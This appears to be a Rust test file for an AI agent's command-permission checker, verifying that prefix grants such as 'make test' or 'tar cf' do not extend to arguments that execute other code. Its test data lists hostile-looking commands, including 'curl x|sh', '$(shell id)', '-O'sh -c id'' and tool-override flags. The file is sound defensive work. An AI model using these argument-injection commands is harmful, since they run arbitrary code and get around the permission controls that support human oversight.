//! Prefix rules never cover later words that make the program run other code.

use super::*;
use crate::chat::{CommandLine, Decider, Grant, GrantScope, SessionGrant};

/// Returns whether a grant for these words allows the command.
fn is_allowed_by_prefix(words: &str, command: &str) -> bool {
    let line = CommandLine { command: command.into(), folder: "/p".into(), ..CommandLine::default() };
    let words = words.split(' ').map(str::to_owned).collect();
    let grant = Grant::new("tool", GrantScope::Prefix { words, folder: "/p".into() });
    let grants = [SessionGrant { grant, entry_index: 0, call_number: 1, call: "c".into(), by: Decider::Headless }];
    let destroys = false;
    let plan = super::tests::plan(Access::Run(line.into()), destroys);
    judge_plan(&Policy::default(), &grants, &Rules::default(), "tool", &plan).as_str() == "allow"
}

#[test]
fn r11_prefix_rule_covers_no_code_in_later_arguments() {
    for (words, covered, not_covered) in [
        (
            "make test",
            &[
                "make test",
                "make test -j4 -k",
                "make test -j4",
                "make test -kj 4",
                "make test -s --no-print-directory",
                "make test -B -Otarget",
                "make test -oEasy.o",
            ][..],
            &[
                "make test lint",
                "make test -j4 deploy",
                "make test -- deploy",
                "make test 'X:=$(shell id)'",
                "make test X=y",
                "make test SHELL=./x",
                "make test 'SHELL=./x'",
                "make test -f x.mk",
                "make test -fx.mk",
                "make test --file=x.mk",
                "make test --makefile x.mk",
                "make test --eval='x:;id'",
                "make test -E 'x:;id'",
                "make test 'CMD = curl x|sh; true'",
                "make test 'SHELL = ./x'",
                "make test 'SHELL\t=./x'",
                "make test '$(SHELL)=./x'",
                "make test ' SHELL:=./x'",
                "make test 'ä=./x'",
                "make test 'x; id'",
                "make test -kE 'q:;@id' q",
                "make test -kf x.mk",
                "make test -Csub",
                "make test -kCsub",
                "make test -C sub",
                "make test -I x",
                "make test --f x.mk",
                "make test --fi x.mk",
                "make test --ev q",
                "make test --di sub",
            ][..],
        ),
        ("gmake test", &["gmake test -j4"], &["gmake test -kf x.mk", "gmake test 'A = b'"]),
        (
            "just test",
            &["just test -q"],
            &["just test fast", "just test -dx", "just test --set CC ./x", "just test 'x;id'"],
        ),
        (
            "rake test",
            &["rake test", "rake test -v", "rake test --trace"],
            &[
                "rake test -e 'system(1)'",
                "rake test -E x",
                "rake test -p x",
                "rake test -vf x",
                "rake test -r ./x",
                "rake test -Rx",
                "rake test --rakelib x",
                "rake test 'a = b'",
            ],
        ),
        (
            "npm test",
            &["npm test", "npm test -- --watch", "npm test -- --ci -u a=b", "npm test -w pkg"],
            &[
                "npm test --node-options=--require=./x.js",
                "npm test --node-opt=--require=./x.js",
                "npm test -node-options=x",
                "npm test --userconfig=x",
                "npm test --script-shell ./x",
                "npm test -C x",
            ],
        ),
        ("ninja all", &["ninja all -j4", "ninja all -k0"], &["ninja all -vC x", "ninja all -fx"]),
        ("rsync a", &["rsync a b -av"], &["rsync a b -ave ./x", "rsync a b -e./x", "rsync a b --rs ./x"]),
        ("docker build", &["docker build . --rm"], &["docker build . --config x"]),
        (
            "git grep",
            &["git grep -n main", "git grep -e 'a b' -- src", "git grep -C3 main", "git grep -eOne"],
            &[
                "git grep -O'sh -c id' main",
                "git grep -O./x main",
                "git grep '-Osh' main",
                "git grep -nO./x hi",
                "git grep -FnO./x hi",
                "git grep --op=./x hi",
            ],
        ),
        (
            "tar cf",
            &["tar cf a.tar src", "tar cf a.tar src -v"],
            &[
                "tar cf a.tar src -vI 'sh -c id'",
                "tar cf a.tar src -vI./x",
                "tar cf a.tar -vC/ etc",
                "tar cf a.tar -T list",
                "tar cf host:a.tar src",
                "tar cf a.tar src -I ./x",
                "tar cf a.tar src -I./x",
                "tar cf a.tar src -F ./x",
                "tar cf a.tar src --info-script=./x",
                "tar cf a.tar src --rmt-command ./x",
            ],
        ),
        (
            "cargo test",
            &["cargo test a=b", "cargo test -- --nocapture", "cargo test --features=a,b", "cargo test 'a; b'"],
            &[
                "cargo test --features='a b'",
                "cargo test '--config=x'",
                "cargo test '$(id)'",
                "cargo test '`id`'",
                "cargo test 'X=a;b'",
            ],
        ),
        (
            "git commit",
            &["git commit -m 'one; two | three'", "git commit -am 'a b = c'", "git commit -amOne"],
            &["git commit '-ma;b'"],
        ),
        (
            "sort",
            &["sort a", "sort -rn a", "sort a -k2,2n", "sort -t, -u a b"],
            &[
                "sort -o a b",
                "sort -oa b",
                "sort -rob a",
                "sort a --output=b",
                "sort --outp b a",
                "sort -T x a",
                "sort --files0-from=a",
                "sort --no-such-option a",
            ],
        ),
        ("uniq", &["uniq -c a"], &["uniq a b", "uniq -f 1 a b", "uniq -c -- a b"]),
        ("xxd", &["xxd a", "xxd -l 16 a"], &["xxd a b", "xxd -ps a b", "xxd -r a"]),
        ("tree", &["tree -L 2", "tree -a src"], &["tree -Lo 2 x", "tree -o x", "tree -R"]),
        (
            "git diff",
            &["git diff --stat", "git diff -U5 src"],
            &["git diff --output=x", "git diff --outp=x", "git diff -Ox", "git diff --ext-diff", "git diff --no-such"],
        ),
        ("git branch", &["git branch x", "git branch -m x y"], &["git branch --no-such"]),
        ("rg x", &["rg x -i src"], &["rg x --pre ./y", "rg x -z", "rg x --hostname-bin=./y", "rg x --ignore-file=y"]),
        (
            "go vet",
            &["go vet ./...", "go vet -v -tags=x ./..."],
            &["go vet -vettool=./x", "go vet -vettool ./x", "go vet --vettool=./x", "go vet --toolexec ./x"],
        ),
        (
            "go test",
            &["go test -run TestX -count=1 -short ./...", "go test -coverprofile=c.out"],
            &["go test --exec ./x", "go test -ldflags=-extld=./x", "go test -Csub"],
        ),
    ] {
        for command in covered {
            assert!(is_allowed_by_prefix(words, command), "{command}");
        }
        for command in not_covered {
            assert!(!is_allowed_by_prefix(words, command), "{command}");
        }
    }
}

#[test]
fn r11_too_wide_prefix_covers_nothing() {
    for words in ["git", "bash", "taskset 1", "npx eslint", "sqlite3 x", "gcc", "strace", "env ls", "rm x", "-c x"] {
        assert!(!is_allowed_by_prefix(words, &format!("{words} y")), "{words}");
        let words: Vec<String> = words.split(' ').map(str::to_owned).collect();
        assert!(explain_too_wide(&words).is_some(), "{words:?}");
    }
    assert!(is_allowed_by_prefix("cargo test", "cargo test y"));
}
